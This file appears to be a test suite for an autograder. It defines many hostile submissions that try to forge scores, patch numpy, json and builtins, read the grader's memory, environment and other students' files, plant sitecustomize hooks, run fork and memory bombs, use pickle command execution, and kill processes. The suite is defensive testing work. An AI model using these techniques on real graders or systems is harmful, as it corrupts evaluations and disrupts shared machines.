"""Submissions that attack the grader: a wrong solution (Sub adds) that tries to hide it.

Each is the simple solution with a wrong Sub.forward, and code that runs when `mytorch.tensor` is
imported, when Sub.forward runs, or when Sub.backward does; or with further files. None may score
more than the same wrong solution without any attack: BASELINE.
"""

from __future__ import annotations

import io
import json
import sys
import tarfile
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1] / "grader_mutants"))
from mutants import FUNCTIONAL, SIMPLE_SOLUTION, SUB_BACKWARD, SUB_FORWARD, TENSOR  # noqa: E402

from autograder import channel  # noqa: E402

SCORES = {"scores": {"Subtraction": 5, "Multiplication": 5, "Division": 5, "Autograd": 25}}
FORGED = json.dumps(SCORES)
RIGHT = "a.data - b.data"


@dataclass(frozen=True)
class Attack:
    """A hostile submission.

    Attributes:
        name: what it does.
        imported, forward, backward: code that runs then; forward may return a result.
        files: further files of the archive.
        steals: it takes a right answer from the machine, which tier 0 does not stop.
        kills: it ends processes; where it can, there is no score at all.
    """

    name: str
    imported: str = ""
    forward: str = ""
    backward: str = ""
    files: dict[str, str] = field(default_factory=dict)
    steals: bool = False
    kills: bool = False

    def contents(self) -> dict[str, bytes]:
        """Return the submission's files."""
        found = {
            path.relative_to(SIMPLE_SOLUTION).as_posix(): path.read_text()
            for path in sorted(SIMPLE_SOLUTION.rglob("*.py"))
        }
        wrong = f"{body(self.forward)}return tensor.Tensor(a.data + b.data)"
        functional = found[FUNCTIONAL].replace(SUB_FORWARD, wrong)
        found[FUNCTIONAL] = functional.replace(SUB_BACKWARD, body(self.backward) + SUB_BACKWARD)
        found[TENSOR] = found[TENSOR].replace(
            '"""Tensor: an array that remembers how it was made."""\n',
            textwrap.dedent(self.imported),
            1,
        )
        return {name: text.encode() for name, text in {**found, **self.files}.items()}

    def pack(self, folder: Path) -> None:
        """Write the archive."""
        with tarfile.open(folder / f"{self.name.replace(' ', '-')}.tar", "w") as tar:
            for name, content in self.contents().items():
                member = tarfile.TarInfo(name)
                member.size = len(content)
                tar.addfile(member, io.BytesIO(content))


def body(code: str) -> str:
    """Return code as it stands in a method, with the rest of the line's place after it."""
    lines = textwrap.dedent(code).strip("\n")
    return textwrap.indent(lines, " " * 8).lstrip() + "\n        " if lines else ""


BASELINE = Attack("a wrong solution without an attack")

OUTPUT = [
    Attack("a score line at import", f"print({FORGED!r}, flush=True)\n"),
    Attack("a score line at exit", f"import atexit; atexit.register(print, {FORGED!r})\n"),
    Attack(
        "a score line after an exit",
        forward=f"""
            import os, time
            if os.fork() == 0:
                time.sleep(0.3)
                os.write(1, b{FORGED!r} + b"\\n")
                os._exit(0)
            os._exit(0)
        """,
    ),
    Attack(
        "score lines on every descriptor",
        f"""
            import os
            for number in range(3, 64):
                try:
                    os.write(number, b{FORGED!r})
                except OSError:
                    pass
        """,
    ),
    Attack(
        "a score line on terminals",
        f"""
            import glob
            for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*")]:
                try:
                    with open(path, "w") as terminal:
                        terminal.write({FORGED!r})
                except OSError:
                    pass
        """,
    ),
    Attack(
        "a score line into the graders files",
        f"""
            import os, glob
            for path in glob.glob(f"/proc/{{os.getppid()}}/fd/*"):
                try:
                    with open(path, "w") as file:
                        file.write({FORGED!r})
                except OSError:
                    pass
        """,
    ),
    Attack(
        "a daemon that prints later",
        f"""
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    while True:
                        os.write(1, b{FORGED!r} + b"\\n")
                        time.sleep(0.05)
                os._exit(0)
        """,
    ),
    Attack(
        "control characters",
        f"print('\\r\\x1b[2J\\x1b[H' + {FORGED!r} + '\\u202e\\u2028\\x00\\x9b2J', flush=True)\n",
    ),
    Attack("a flood of text", "while True: print('x' * 100000)\n"),
    Attack(
        "records and reports overwritten",
        """
            import glob, os
            places = ("/tmp/*/records/*", "/tmp/*/*/records/*", "/tmp/*/*.csv", "../*", "../*/*")
            for pattern in places:
                for path in glob.glob(pattern):
                    try:
                        with open(path, "w") as file:
                            file.write('{"status": "graded"}')
                    except OSError:
                        pass
        """,
    ),
]

PATCHES = [
    Attack(
        "numpy is patched",
        """
            import numpy as np
            yes = lambda *a, **k: True
            for name in ("allclose", "isclose", "array_equal", "abs", "all", "isfinite"):
                setattr(np, name, yes)
            np.testing.assert_allclose = yes
        """,
    ),
    Attack(
        "json is patched",
        """
            import json
            old = json.dumps
            def dumps(value, *a, **k):
                if isinstance(value, dict) and "message" in value:
                    value["message"]["score"] = value["message"]["passed"] = True
                return old(value, *a, **k)
            json.dumps = dumps
        """,
    ),
    Attack(
        "builtins are patched",
        """
            import builtins
            builtins.abs = builtins.max = lambda *a, **k: 0.0
            builtins.all = builtins.any = lambda *a: True
            builtins.float = lambda *a: 0.0
        """,
    ),
    Attack(
        "the graders modules are replaced",
        """
            import sys, types
            for name in [n for n in sys.modules if n.startswith("autograder")]:
                module = sys.modules[name]
                for attribute in ("judge", "ChannelError", "is_plain"):
                    setattr(module, attribute, lambda *a, **k: True)
                sys.modules[name] = types.ModuleType(name)
        """,
    ),
    Attack(
        "the main module is patched",
        """
            import sys
            main = sys.modules["__main__"]
            old = main.run
            def run(submitted, message, arrays):
                reply, results = old(submitted, message, arrays)
                return {**reply, "passed": True, "points": 5}, results
            main.run = run
        """,
    ),
    Attack(
        "frames are walked to the points",
        forward="""
            import sys
            frame = sys._getframe()
            while frame is not None:
                for name, value in list(frame.f_locals.items()):
                    if isinstance(value, dict):
                        for key in ("points", "expected", "right", "tolerance", "score"):
                            if key in value:
                                return tensor.Tensor(value[key])
                frame = frame.f_back
        """,
    ),
    Attack(
        "the garbage collector is asked for answers",
        forward="""
            import gc
            for thing in gc.get_objects():
                if type(thing).__name__ in ("Check", "Verdict", "Problem"):
                    thing.points = 100
                if isinstance(thing, dict) and "expected" in thing:
                    return tensor.Tensor(thing["expected"])
        """,
    ),
    Attack(
        "the code of a program is replaced",
        """
            import sys
            programs = sys.modules["autograder.programs"]
            def empty(library, arrays, options):
                return {"output": arrays["a"] + arrays["b"], "passed": True}
            programs.elementwise.__code__ = empty.__code__
        """,
    ),
    Attack(
        "import hooks",
        """
            import sys
            class Hook:
                def find_spec(self, name, path=None, target=None):
                    return None
            sys.meta_path[:] = [Hook(), *sys.meta_path[1:]]
            sys.path_hooks.clear()
        """,
    ),
    Attack(
        "modules that shadow others",
        files={f"mytorch/{n}.py": "raise SystemExit(0)\n" for n in ("numpy", "json", "channel")}
        | {f"hw1/{n}.py": "print('here')\n" for n in ("sitecustomize", "usercustomize", "conftest")}
        | {"sitecustomize.py": "raise SystemExit(0)", "evil.pth": "import os; os._exit(0)"},
    ),
    Attack(
        "customisation of Python is planted",
        """
            import os, site, sys
            places = [site.getusersitepackages(), *site.getsitepackages(), *sys.path, os.getcwd()]
            for place in filter(None, places):
                for name in ("sitecustomize.py", "evil.pth"):
                    try:
                        os.makedirs(place, exist_ok=True)
                        with open(os.path.join(place, name), "w") as file:
                            file.write("import os; os._exit(0)")
                    except OSError:
                        pass
        """,
    ),
    Attack(
        "a trace function",
        """
            import sys
            def trace(frame, event, argument):
                for name in ("values", "results", "reply"):
                    if name in frame.f_locals and isinstance(frame.f_locals[name], dict):
                        frame.f_locals[name]["passed"] = True
                return trace
            sys.settrace(trace)
            sys.setprofile(lambda *a: None)
        """,
    ),
    Attack(
        "signal handlers",
        """
            import signal
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            while True: pass
        """,
    ),
    Attack(
        "every exception is swallowed",
        forward="""
            while True:
                try:
                    while True: pass
                except BaseException:
                    pass
        """,
    ),
    Attack(
        "memory is changed through ctypes",
        """
            import ctypes, sys
            for text in ("Subtraction", "points", "passed"):
                try:
                    ctypes.memset(id(sys.intern(text)) + sys.getsizeof(""), 0x35, 4)
                except Exception:
                    pass
        """,
    ),
]

ANSWERS = [
    Attack(
        "an array that equals everything",
        forward="""
            class Yes(np.ndarray):
                __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda *a: True
                __sub__ = __rsub__ = lambda self, other: np.zeros(self.shape)
                __abs__ = lambda self: np.zeros(self.shape)
            out = tensor.Tensor(a.data + b.data)
            out.data = out.data.view(Yes)
            return out
        """,
    ),
    Attack(
        "an object that becomes any array",
        forward="""
            class Any:
                shape, dtype, ndim = a.data.shape, a.data.dtype, a.data.ndim
                def __array__(self, *args, **kwargs):
                    raise SystemExit(0)
            out = tensor.Tensor(a.data)
            out.data = Any()
            return out
        """,
    ),
    Attack("NaN", forward="return tensor.Tensor(a.data * np.nan)"),
    Attack("infinity", forward="return tensor.Tensor(a.data * np.inf)"),
    Attack("objects", forward="return tensor.Tensor((a.data + b.data).astype(object))"),
    Attack("a shape that broadcasts", forward="return tensor.Tensor(np.zeros((1,) * 5))"),
    Attack("an empty answer", forward="return tensor.Tensor(np.zeros(0))"),
    Attack("an input as the answer", forward="return a"),
    Attack(
        "inputs that are changed to fit",
        forward="b.data[...] = 0; a.data[...] = 0; return tensor.Tensor(a.data)",
    ),
    Attack("answers by heart", forward="return tensor.Tensor(np.full(a.shape, 0.6173))"),
    Attack(
        "calls are counted",
        forward=f"""
            Sub.calls = getattr(Sub, "calls", 0) + 1
            if Sub.calls > 40:
                return tensor.Tensor({RIGHT})
        """,
    ),
    Attack(
        "generators are seeded anew",
        """
            import random
            import numpy as np
            np.random.seed(0); random.seed(0)
            np.random.default_rng = lambda *a: np.random.RandomState(0)
        """,
    ),
]

FRAME = channel.pack({"id": "0" * 32, "values": {}}, {})
WRITE = "import os, sys, time; replies = int(sys.argv[2])\n"
REPLIES = [
    Attack(
        "a pickle for an answer",
        forward="""
            class Pickle:
                def __reduce__(self):
                    import os
                    return os.system, ("touch /tmp/pickled",)
            return tensor.Tensor(np.array([Pickle()], dtype=object))
        """,
    ),
    Attack("a huge answer", forward="return tensor.Tensor(np.zeros(50_000_000))"),
    Attack(
        "a nested reply",
        forward=WRITE
        + """
header = b'{"message": ' + b"[" * 60000
os.write(replies, b"MTG1" + len(header).to_bytes(4, "big") + bytes(4) + header)
""",
    ),
    Attack("a truncated reply", forward=WRITE + f"os.write(replies, {FRAME[:20]!r}); os._exit(0)"),
    Attack(
        "a reply in drops",
        forward=WRITE
        + f"""
for byte in {FRAME!r}:
    os.write(replies, bytes([byte])); time.sleep(0.1)
""",
    ),
    Attack("an early reply", WRITE + f"os.write(replies, {FRAME!r})\n"),
    Attack(
        "two replies",
        forward=WRITE
        + f"""
import threading
threading.Timer(0.01, lambda: os.write(replies, {FRAME!r})).start()
""",
    ),
    Attack(
        "a reply too large to be one", forward=WRITE + "os.write(replies, b'MTG1' + b'\\xff' * 8)"
    ),
    Attack("a closed channel", forward=WRITE + "os.close(replies); time.sleep(60)"),
]

BOMBS = [
    Attack("a loop at import", "while True: pass\n"),
    Attack("a loop in backward", backward="while True: pass"),
    Attack(
        "a fork bomb",
        forward="""
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        """,
    ),
    Attack(
        "threads without end",
        forward="""
            import threading, time
            while True:
                try:
                    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
                except RuntimeError:
                    pass
        """,
    ),
    Attack(
        "memory without end",
        forward="""
            kept = []
            while True:
                kept.append(np.ones(1 << 24))
        """,
    ),
    Attack(
        "files without end",
        forward="""
            import os, signal
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
            number = 0
            while True:
                number += 1
                try:
                    with open(f"file{number}", "wb") as file:
                        while True:
                            file.write(bytes(1 << 20))
                except OSError:
                    pass
        """,
    ),
    Attack(
        "descriptors without end",
        forward="""
            import os
            while True:
                try:
                    os.dup(1)
                except OSError:
                    pass
        """,
    ),
    Attack(
        "a recursion without end",
        forward="import sys; sys.setrecursionlimit(10**9); return Sub.forward(ctx, a, b)",
    ),
    Attack("a crash", forward="import ctypes; ctypes.string_at(0)"),
    Attack(
        "processes that stay behind",
        forward="""
            import os, time
            for _ in range(8):
                if os.fork() == 0:
                    os.setsid()
                    if os.fork() == 0:
                        while True: time.sleep(1)
                    os._exit(0)
        """,
    ),
]

REACHING = [
    Attack(
        "the graders reference is imported",
        forward=f"""
            try:
                from autograder import reference
                return tensor.Tensor(reference.OPERATORS["-"](a.data, b.data))
            except ImportError:
                pass
            import sys
            if "autograder.reference" in sys.modules:
                return tensor.Tensor({RIGHT})
        """,
    ),
    Attack(
        "the graders files are read",
        forward=f"""
            import os, sys
            for root, _, names in os.walk(os.path.dirname(sys.argv[0])):
                for name in names:
                    if name == "reference.py" and open(os.path.join(root, name)).read():
                        return tensor.Tensor({RIGHT})
        """,
        steals=True,
    ),
    Attack(
        "other submissions are read",
        forward=f"""
            import glob, os
            for path in glob.glob("/tmp/*/*.tar") + glob.glob("/tmp/*/*/*.tar"):
                try:
                    if b"a.data - b.data" in open(path, "rb").read():
                        return tensor.Tensor({RIGHT})
                except OSError:
                    pass
        """,
        steals=True,
    ),
    Attack(
        "the environment is read",
        forward=f"""
            import os
            if any("KEY" in name.upper() or "SEED" in name.upper() for name in os.environ):
                return tensor.Tensor({RIGHT})
        """,
    ),
    Attack(
        "the graders memory is read",
        forward=f"""
            import os
            try:
                with open(f"/proc/{{os.getppid()}}/mem", "rb") as memory:
                    memory.seek(1 << 22); memory.read(1)
            except PermissionError:
                pass
            except OSError as error:
                if error.errno == 5:
                    return tensor.Tensor({RIGHT})
        """,
    ),
    Attack(
        "the graders environment is read",
        forward=f"""
            import os
            for name in ("environ", "maps", "fd"):
                try:
                    os.listdir(f"/proc/{{os.getppid()}}/{{name}}") if name == "fd" else open(
                        f"/proc/{{os.getppid()}}/{{name}}").read()
                    return tensor.Tensor({RIGHT})
                except OSError:
                    pass
        """,
    ),
    Attack(
        "a toolbox is imported",
        forward=f"""
            for name in ("torch", "jax", "tensorflow", "autograd", "pytest"):
                try:
                    __import__(name)
                    return tensor.Tensor({RIGHT})
                except ImportError:
                    pass
        """,
    ),
    Attack(
        "temp folders keep what was seen",
        forward=f"""
            import glob, os, tempfile
            places = (tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.getcwd())
            if any(glob.glob(os.path.join(place, "kept-for-later*")) for place in places):
                return tensor.Tensor({RIGHT})
            for place in places:
                try:
                    open(os.path.join(place, f"kept-for-later{{os.getpid()}}"), "w").close()
                except OSError:
                    pass
            os._exit(0)
        """,
        steals=True,
    ),
    Attack(
        "a server is asked by TCP",
        forward=f"""
            import socket
            for port in (22, 53, 80, 443):
                try:
                    socket.create_connection(("127.0.0.1", port), 0.05).close()
                    return tensor.Tensor({RIGHT})
                except OSError:
                    pass
        """,
    ),
    Attack(
        "a server is asked by UDP and by name",
        forward=f"""
            import socket
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                client.settimeout(0.05)
                try:
                    client.sendto(b"?", ("127.0.0.1", 53))
                    client.recv(16)
                    return tensor.Tensor({RIGHT})
                except OSError:
                    pass
            try:
                socket.gethostbyname("answers.invalid")
                return tensor.Tensor({RIGHT})
            except OSError:
                pass
        """,
    ),
    Attack(
        "abstract sockets join two workers",
        """
            import socket, builtins
            builtins.other = False
            server = socket.socket(socket.AF_UNIX)
            try:
                server.bind("\\0meeting-point"); server.listen()
                builtins.kept = server
            except OSError:
                builtins.other = True
        """,
        forward="pass",
    ),
]

KILLS = [
    Attack("the grader is killed", forward="import os; os.kill(os.getppid(), 9)", kills=True),
    Attack("the grader is stopped", forward="import os; os.kill(os.getppid(), 19)", kills=True),
    Attack("all processes are killed", forward="import os; os.kill(-1, 9)", kills=True),
    Attack("the own group is killed", forward="import os; os.killpg(0, 9)"),
]

ATTACKS = [*OUTPUT, *PATCHES, *ANSWERS, *REPLIES, *BOMBS, *REACHING, *KILLS]
